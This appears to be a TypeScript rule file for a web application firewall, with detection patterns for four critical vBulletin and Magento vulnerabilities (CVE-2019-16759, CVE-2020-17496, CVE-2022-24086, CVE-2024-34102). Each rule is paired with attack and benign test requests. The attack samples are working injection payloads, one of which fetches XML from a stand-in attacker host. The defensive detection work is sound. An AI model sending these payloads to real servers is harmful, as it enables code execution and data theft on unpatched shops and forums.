// Shops and forums in PHP: Magento, vBulletin.
import { asPath, type CatalogPatch, definePatch, json } from '../entry.js';

const r = String.raw;

export const shopAndForumPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007209,
    cve: 'CVE-2019-16759',
    title: 'vBulletin evaluates widget code',
    product: 'vBulletin',
    affected: '5.0.0 to 5.5.4',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 2,
    links: [['ARGS:routestring|REQUEST_FILENAME', r`@rx ajax/render/widget_php`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'code in the configuration',
        'POST /index.php',
        {},
        'routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=echo+1%3B',
      ],
    ],
    benign: [
      ['another widget', 'POST /index.php', {}, 'routestring=ajax/render/widget_search'],
      ['in a post', 'POST /forum', {}, 'message=ajax/render/widget_php'],
    ],
  }),
  definePatch({
    id: 1007210,
    cve: 'CVE-2020-17496',
    title: 'vBulletin evaluates code of sub-widgets',
    product: 'vBulletin',
    affected: '5.5.4 to 5.6.2',
    cwe: 'CWE-74',
    severity: 'critical',
    phase: 2,
    links: [['ARGS_NAMES', r`@rx ^subwidgets\[\d+\]\[config\]\[code\]`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'tabbed container',
        'POST /ajax/render/widget_tabbedcontainer_tab_panel',
        {},
        'subWidgets%5B0%5D%5Btemplate%5D=widget_php&subWidgets%5B0%5D%5Bconfig%5D%5Bcode%5D=phpinfo()%3B',
      ],
    ],
    benign: [
      [
        'a template',
        'POST /ajax/render/widget_tabbedcontainer_tab_panel',
        {},
        'subWidgets%5B0%5D%5Btemplate%5D=widget_search',
      ],
      ['a code field', 'POST /coupon', {}, 'config%5Bcode%5D=SPRING'],
    ],
  }),
  definePatch({
    id: 1007214,
    cve: 'CVE-2022-24086',
    title: 'Magento evaluates template directives',
    product: 'Adobe Commerce, Magento Open Source',
    affected: '2.3.3-p1 to 2.4.3-p1',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [['ARGS', r`@rx \{\{[^}]*(?:gettemplatefilter|addafterfiltercallback)`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'filter callback in a name',
        'POST /rest/default/V1/guest-carts/x/billing-address',
        json,
        '{"address":{"firstname":"{{var this.getTemplateFilter().filter(foo)}}"}}',
      ],
    ],
    benign: [
      ['a placeholder', 'POST /newsletter', json, '{"text":"Hello {{var customer.name}}"}'],
      ['the name alone', 'POST /issues', json, '{"text":"getTemplateFilter is null"}'],
    ],
  }),
  definePatch({
    id: 1007215,
    cve: 'CVE-2024-34102',
    title: 'Magento instantiates objects while reading JSON',
    product: 'Adobe Commerce, Magento Open Source',
    affected: '2.4.7, 2.4.6-p5, 2.4.5-p7, 2.4.4-p8 and older',
    cwe: 'CWE-611',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /rest/(?:[^/]+/)?v1/`, asPath],
      ['ARGS_NAMES', r`@rx (?:sourcedata|source_data)\.`, 'lowercase'],
    ],
    attack: [
      [
        'nested source data',
        'POST /rest/V1/guest-carts/1/estimate-shipping-methods',
        json,
        '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":' +
          '{"data":"http://attacker.example/x.xml","dataIsURL":true,"options":1337}}}}}}',
      ],
    ],
    benign: [
      [
        'an address',
        'POST /rest/V1/guest-carts/1/estimate-shipping-methods',
        json,
        '{"address":{"country_id":"DE","postcode":"10115"}}',
      ],
      ['elsewhere', 'POST /api/import', json, '{"sourceData":{"a":1}}'],
    ],
  }),
];
